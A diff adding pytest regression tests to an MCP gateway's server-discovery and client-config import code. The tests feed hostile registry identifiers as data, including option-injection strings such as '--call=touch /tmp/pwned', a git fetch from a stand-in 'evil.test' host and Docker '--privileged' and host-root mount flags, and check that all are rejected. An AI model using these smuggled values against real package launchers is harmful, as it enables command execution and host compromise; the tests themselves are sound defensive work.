@@ -10,9 +10,11 @@ from pathlib import Path
 import pytest
 
 from gateway.errors import ConfigError
+from gateway.events import LoggingSink
 from gateway.onboard import apply_plan, make_plan, read_client_file, rewrite_client, undo_client
 from gateway.onboard.apply import backup_path
 from gateway.onboard.clients import file_source
+from gateway.onboard.discovery import Discovery, registry_servers
 from tests.onboard.conftest import SECRET, write_json
 
 
@@ -63,3 +65,87 @@ def test_undo_never_puts_a_planted_symlink_in_place_of_the_client_config(tmp_pat
     assert not client.is_symlink() and "notes" in json.loads(client.read_text())["mcpServers"]
     with pytest.raises(ConfigError):  # and a rewrite does not count the link as no backup
         rewrite_client([(file_source(client), ["notes"])], "/opt/symbi", tmp_path / "symbi.toml")
+
+
+def test_a_registry_identifier_that_is_an_option_is_never_a_server(tmp_path: Path) -> None:
+    """Attack: a ``server.json`` in ``mcp.discovery_registry_dir`` whose npm identifier is
+    ``--call=touch PWNED``. Discovery made it ``npx -y --call=touch PWNED`` and, once a person
+    approved "weather" (no listing shows the arguments), npx ran the shell command (reproduced
+    with a real ``symbi mcp``, discovery on, ``symbi tools approve weather``). Now an identifier
+    or version that is not a package name of its registry is skipped with a log line."""
+    hostile = {
+        "npm": ["--call=touch /tmp/pwned", "-c=id", "https://evil.test/x.tgz", "ok\n--call=x"],
+        "pypi": ["--from=git+https://evil.test/x", "a b"],
+        "oci": ["--privileged", "-v=/:/host"],
+    }
+    for kind, idents in hostile.items():
+        for i, ident in enumerate(idents):
+            write_json(
+                tmp_path / f"{kind}-{i}.json",
+                {"name": f"example/{kind}{i}", "packages": [{"registryType": kind, "identifier": ident}]},
+            )
+    write_json(
+        tmp_path / "version.json",
+        {
+            "name": "example/v",
+            "packages": [{"registryType": "npm", "identifier": "ok", "version": "--call=x"}],
+        },
+    )
+    write_json(
+        tmp_path / "fine.json",
+        {
+            "name": "example/fine",
+            "packages": [{"registryType": "npm", "identifier": "@scope/fine", "version": "1.0.0"}],
+        },
+    )
+    os.mkfifo(tmp_path / "pipe.json")  # never waited on
+    deep = tmp_path / "deep.json"
+    deep.write_text('{"name": "example/deep", "x": ' + "[" * 5000 + "]" * 5000 + "}")
+    assert {name: table for _, name, table in registry_servers(tmp_path)} == {
+        "fine": {"command": "npx", "args": ["-y", "@scope/fine@1.0.0"]}
+    }
+
+
+@pytest.mark.parametrize(
+    ("entry", "where"),
+    [
+        ({"command": "node", "args": ["${env:HOME"]}, "args[0]"),
+        ({"command": "node", "args": ["x", None]}, "args[1]"),
+        ({"command": "node", "env": {"TOKEN": 12345}}, "env.TOKEN"),
+    ],
+)
+def test_a_malformed_entry_is_refused_naming_it_and_discovery_goes_on(
+    tmp_path: Path, entry: dict[str, object], where: str
+) -> None:
+    """Attack (a project's ``.mcp.json`` others commit): ``"${env:HOME"`` raised ValueError out
+    of ``symbi import`` (a traceback) and out of every discovery pass (nothing else discovered,
+    nothing reported removed); ``null`` and numbers were written as the text "None" and "12345"
+    (a secret in the env file). Now a ``ConfigError`` naming the file and key; discovery counts
+    the file unread and goes on with the others."""
+    project, home = tmp_path / "project", tmp_path / "home"
+    home.mkdir()
+    bad = write_json(project / ".mcp.json", {"mcpServers": {"x": entry}})
+    with pytest.raises(ConfigError) as err:
+        read_client_file(file_source(bad))
+    assert f"mcpServers.x.{where}" in err.value.message
+    write_json(
+        home / ".config/Claude/claude_desktop_config.json", {"mcpServers": {"good": {"command": "node"}}}
+    )
+    d = Discovery(
+        tmp_path / "discovered.json",
+        LoggingSink(),
+        home=home,
+        cwd=project,
+        environ={},
+        registry_dir=None,
+        configured=frozenset(),
+    )
+    added, _ = d.poll()
+    assert [x.name for x in added] == ["good"]
+
+
+def test_a_client_config_nested_thousands_deep_is_a_config_error(tmp_path: Path) -> None:
+    deep = tmp_path / "mcp.json"
+    deep.write_text('{"mcpServers": ' + "[" * 100_000 + "]" * 100_000 + "}")
+    with pytest.raises(ConfigError):
+        file_source(deep)
